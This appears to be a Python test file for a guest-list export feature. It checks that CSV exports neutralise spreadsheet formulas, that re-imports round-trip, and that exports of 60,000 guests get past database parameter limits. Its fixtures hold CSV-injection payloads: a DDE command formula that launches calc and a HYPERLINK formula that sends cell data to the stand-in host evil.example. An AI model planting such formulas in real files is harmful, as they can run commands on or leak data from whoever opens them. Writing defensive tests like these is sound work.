"""Guest-list exports: no cell a spreadsheet would run as a formula, through the API and the staff pages; and
guest lists too large for one statement's parameters (60,000 guests exported, 40,000 marked as arrived)."""

from __future__ import annotations

import csv
import io

import pytest

from contacts import csv_files
from contacts.db.bulk import bulk_session
from contacts.domain import InvitationStatus
from contacts.event_tables import Invitation
from contacts.tables import Contact
from tests.sending.test_campaign_send import import_list
from tests.sqlite_limits import stock_sqlite_parameter_limit  # noqa: F401 - the fixture
from tests.web.test_api_campaigns import token_for
from tests.web.test_staff_pages import signed_in

pytestmark = pytest.mark.usefixtures("database_url", "stock_sqlite_parameter_limit")

# Issue 18's reproduction: an address the import accepts, and names that are formulas.
FORMULA_ADDRESS = "=cmd|'/Ccalc'!A0@formula.example"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
GUESTS = [
    {"email": FORMULA_ADDRESS, "title": "+Dr", "first_name": HYPERLINK, "last_name": "-2+3",
     "organisation": "@SUM(A1)", "position": "-chef", "language": "fr"},
    {"email": "ana@monde.example", "title": "", "first_name": "'=1+1", "last_name": "A", "organisation": "Le Monde",
     "position": "", "language": "fr"},
]


def rows_of(answer) -> list[list[str]]:
    # The staff pages' file starts with a byte-order mark, for spreadsheets; the API's does not.
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))


def assert_formula_safe(answer, words: tuple[str, str] = ("fr", "listed")) -> None:
    assert answer.status_code == 200, answer.text
    rows = rows_of(answer)
    assert not [cell for row in rows for cell in row if cell.startswith(csv_files.FORMULA_STARTS)]
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"  # the charset once
    by_email = {csv_files.plain_cell(row[5]): [csv_files.plain_cell(cell) for cell in row] for row in rows[1:]}
    assert by_email[FORMULA_ADDRESS] == ["+Dr", HYPERLINK, "-2+3",
                                         "@SUM(A1)", "-chef", FORMULA_ADDRESS, *words]
    assert by_email["ana@monde.example"][1] == "'=1+1"


async def guest_list_with_formulas(client, headers) -> int:
    communications = await token_for("camille", "communications")
    subscribed = await client.post("/api/lists/journalists/subscriptions", headers=communications, json={
        "contacts": GUESTS, "source_type": "third_party", "source_name": "Annuaire presse"})
    assert subscribed.status_code == 201, subscribed.text
    # The address the API was given is the address stored, apostrophes and all, not a neutralised copy.
    assert await Contact.count().where(Contact.email == FORMULA_ADDRESS) == 1
    built = await client.post("/api/invitation-lists", json={"name": "Vernissage", "lists": ["journalists"]},
                              headers=headers)
    assert built.status_code == 201 and built.json()["by_status"] == {"listed": 2}, built.text
    return built.json()["id"]


async def test_a_guest_list_export_from_the_api_runs_no_formula(http_client):
    headers = await token_for("eva", "events")
    async with http_client() as client:
        list_id = await guest_list_with_formulas(client, headers)
        exported = await client.get(f"/api/invitation-lists/{list_id}/export.csv",
                                    params={"to": "Traiteur", "why": "badges"}, headers=headers)
    assert_formula_safe(exported)
    assert rows_of(exported)[1][:3] == ["'+Dr", "'" + HYPERLINK, "'-2+3"]


async def test_a_guest_list_export_from_the_staff_pages_runs_no_formula(http_client):
    headers = await token_for("ed", "events")
    async with http_client() as client:
        list_id = await guest_list_with_formulas(client, headers)
        token = await signed_in(client, "eva", "events")
        exported = await client.post(f"/staff/invitations/{list_id}/export",
                                     data={"_csrf_token": token, "to": "Traiteur", "why": "badges"})
    assert_formula_safe(exported, ("French", "listed"))  # an English account's words


async def test_an_export_imported_again_gives_back_the_same_people(http_client, tmp_path):
    headers = await token_for("eva", "events")
    async with http_client() as client:
        list_id = await guest_list_with_formulas(client, headers)
        exported = await client.get(f"/api/invitation-lists/{list_id}/export.csv",
                                    params={"to": "Nous", "why": "copie"}, headers=headers)
    await import_list(tmp_path, "vips", exported.text.splitlines()[1:], header=exported.text.splitlines()[0])
    names = {row["email"]: row["first_name"] for row in await Contact.select(Contact.email, Contact.first_name)}
    assert names == {FORMULA_ADDRESS: HYPERLINK, "ana@monde.example": "'=1+1"}


async def guests_in_bulk(client, headers, tmp_path, count: int) -> tuple[int, list[int]]:
    """A guest list of `count` guests: one built through the API, the others copies of its rows (contact,
    subscription, invitation) written by a bulk session, which takes a second where imports take minutes."""
    await import_list(tmp_path, "journalists", ["g0@presse.example,G,Zero,fr"])
    built = await client.post("/api/invitation-lists", json={"name": "Grand soir", "lists": ["journalists"]},
                              headers=headers)
    assert built.status_code == 201, built.text
    changes = {"contact": lambda n, _: {"email": f"g{n}@presse.example", "email_canonical": f"g{n}@presse.example"},
               "subscription": lambda _, contact: {"contact": contact},
               "invitation": lambda _, contact: {"contact": contact}}
    async with bulk_session() as session, session.transaction():
        models = {table: (await session.fetch(f"SELECT * FROM {table}"))[0] for table in changes}
        ids = {table: await session.allocate_ids(table, count - 1) for table in changes}
        for table, change in changes.items():
            columns = list(models[table])
            rows = [{**models[table], "id": row_id, **change(n, contact)}
                    for n, (row_id, contact) in enumerate(zip(ids[table], ids["contact"]), start=1)]
            await session.insert(table, columns, [[row[column] for column in columns] for row in rows])
    return built.json()["id"], [models["contact"]["id"], *ids["contact"]]


# Issue 18: with 60,000 guests, an export bound a parameter per guest (PostgreSQL allows 32,767, SQLite 32,766)
# and failed; so did marking 40,000 of them as having come (now: arrived, each with its step). Both engines.
async def test_sixty_thousand_guests_are_exported_and_forty_thousand_marked_as_arrived(http_client, tmp_path):
    headers = await token_for("eva", "events")
    async with http_client() as client:
        list_id, contacts = await guests_in_bulk(client, headers, tmp_path, 60_000)
        exported = await client.get(f"/api/invitation-lists/{list_id}/export.csv",
                                    params={"to": "Traiteur", "why": "badges"}, headers=headers)
        assert exported.status_code == 200, exported.text[:500]
        rows = rows_of(exported)
        assert len(rows) == 60_001 and len({row[5] for row in rows[1:]}) == 60_000
        await Invitation.update({Invitation.status: InvitationStatus.ACCEPTED}).where(Invitation.id > 0)
        marked = await client.post(f"/api/invitation-lists/{list_id}/attended", json={"contacts": contacts[:40_000]},
                                   headers=headers)
        assert marked.status_code == 200 and marked.json() == {"marked": 40_000}, marked.text[:500]
        shown = (await client.get(f"/api/invitation-lists/{list_id}", headers=headers)).json()
        arrivals = (await client.get(f"/api/invitation-lists/{list_id}/arrivals", headers=headers)).json()
    assert shown["by_status"] == {"accepted": 60_000}  # arriving is not an answer
    assert arrivals == {"accepted": 60_000, "arrived": 40_000, "companions": 0, "companions_arrived": 0}
